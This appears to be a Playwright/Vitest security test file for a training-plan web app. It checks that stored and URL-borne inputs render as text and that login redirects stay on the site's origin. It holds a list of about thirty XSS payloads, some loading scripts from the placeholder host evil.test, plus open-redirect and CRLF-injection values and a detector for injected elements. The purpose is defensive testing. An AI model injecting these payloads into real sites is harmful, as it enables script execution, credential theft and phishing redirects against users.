import type { Page } from 'playwright-core'
import { expect, inject, test } from 'vitest'
import { register } from '../harness/athlete/account.js'
import { call } from '../harness/athlete/call.js'
import { type Race, submitLogin } from '../harness/athlete/journey.js'
import { choose, SESSION_MENU, showSecondWeek } from '../harness/athlete/planner.js'
import { openAthlete, openVisit } from '../harness/page/visit.js'

/** What has run as a script somewhere: markup, attributes, addresses, templates, encodings. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.test/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import"//evil.test/x.css";</style>',
  '<a href="javascript:alert(1)">click</a>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  `\`$\{alert(1)}\``,
  '{{constructor.constructor("alert(1)")()}}',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'javascript:alert(1)//',
  '\u202e<img src=x onerror=alert(1)>',
]
/** Payloads that one address holds. */
const IN_ADDRESS = 16
const PAGES = ['/', '/my-plans', '/settings', '/?new']

/** Counts what a script that got through would do, and what the content policy had to stop. */
function watch(page: Page): string[] {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`)
    dialog.dismiss().catch(() => undefined)
  })
  page.on('request', (request) => {
    if (!request.url().startsWith(inject('origin')) && !request.url().startsWith('data:')) seen.push(request.url())
  })
  return seen
}

/** Elements that text must never become. */
const intruders = (page: Page) =>
  page.evaluate(() => {
    const marks = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'srcdoc']
    const withMarks = marks.flatMap((name) => [...document.querySelectorAll(`[${name}]`)])
    const foreign = document.querySelectorAll(
      'iframe, object, embed, base, [href^="javascript:"], [src^="javascript:"]',
    )
    return [...withMarks, ...foreign].map((element) => element.outerHTML.slice(0, 120))
  })

const longest = PAYLOADS.join(' ').slice(0, 2_000)

test('S20 S21 thirty payloads in every field of the results are text on every screen, in dialogs and forms', async () => {
  const race: Race = { name: '<img src=x onerror=alert(1)>', type: 'Sprint', weeks: 8 }
  const { page, planId, troubles, close } = await openAthlete('xss.results@example.org', { race })
  const seen = watch(page)
  type Stored = { id: number; exercises: { id: string; type: string; intensity: string }[] }
  const workouts = await call<Stored[]>(page, 'get', `/api/training-plans/${planId}/workouts`)
  for (const [index, { id: workoutId, exercises }] of workouts.entries()) {
    const payload = PAYLOADS[index % PAYLOADS.length] ?? ''
    const actualExercises = exercises.map(({ id: exerciseId, type, intensity }) => ({
      ...{ id: exerciseId, type, intensity, duration: 30 },
      ...{ name: payload, distance: payload, actualPace: payload, notes: longest },
    }))
    const data = {
      completed: true,
      actualExercises,
      actualDuration: 30,
      notes: `${payload} ${longest}`.slice(0, 2_000),
    }
    await call(page, 'patch', `/api/workouts/${workoutId}/complete`, data)
  }

  for (const path of PAGES) {
    await page.goto(path)
    await page.locator('h1').first().waitFor()
    await page.waitForLoadState('networkidle')
    expect(await intruders(page), path).toEqual([])
  }
  await showSecondWeek(page)
  await choose(page, SESSION_MENU, /^Edit result/)
  const dialog = page.getByRole('dialog')
  await expect.poll(() => dialog.getByLabel('Note, optional').inputValue()).toContain('<img src=x onerror=alert(1)>')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await dialog.waitFor({ state: 'detached' })
  expect(await intruders(page)).toEqual([])
  expect(seen).toEqual([])
  expect(troubles).toEqual([])
  await close()
})

test('S20 toasts, dialogs and what the address says are text, too', async () => {
  const race: Race = { name: '<img src=x onerror=alert(1)>', type: 'Sprint', weeks: 3 }
  const { page, troubles, close } = await openAthlete('xss.toasts@example.org', { race })
  const seen = watch(page)
  await page.goto('/my-plans')
  for (const action of ['Duplicate', 'Rename', 'Delete']) {
    await choose(page, /^Actions for /, action)
    if (action === 'Duplicate') await page.getByText('Plan duplicated').waitFor()
    else await page.getByRole('dialog').waitFor()
    expect(await intruders(page), action).toEqual([])
    if (action !== 'Duplicate') await page.getByRole('button', { name: 'Cancel' }).click()
  }
  for (let from = 0; from < PAYLOADS.length; from += IN_ADDRESS) {
    const query = encodeURIComponent(PAYLOADS.slice(from, from + IN_ADDRESS).join(' '))
    for (const path of [`/garmin?error=${query}#${query}`, `/garmin?success=${query}`, `/?new=${query}`]) {
      await page.goto(path)
      await page.locator('h1').first().waitFor()
      expect(await intruders(page), path).toEqual([])
    }
  }
  expect(seen).toEqual([])
  expect(troubles).toEqual([])
  await close()
})

test('S23 signing in leads to no other site, whatever the address asks for', async () => {
  // The page listens to what changes; without its cookie it is refused, and nobody is signed in any more.
  const { page, troubles, close } = await openVisit({ expected: ['401 GET /api/events'] })
  await register(page, 'stay@example.org')
  for (const next of [
    '//evil.test',
    '/\\evil.test',
    'https:evil.test',
    '%0d%0aLocation:%20//evil.test',
    'javascript:alert(1)',
  ]) {
    await page.context().clearCookies()
    await page.goto(`/auth?next=${encodeURIComponent(next)}&redirect=${next}&returnTo=${next}`)
    await submitLogin(page, 'stay@example.org')
    await page.getByRole('heading', { name: 'Training Plan Setup' }).waitFor()
    await expect.poll(() => new URL(page.url()).origin).toBe(inject('origin'))
  }
  expect(troubles).toEqual([])
  await close()
})
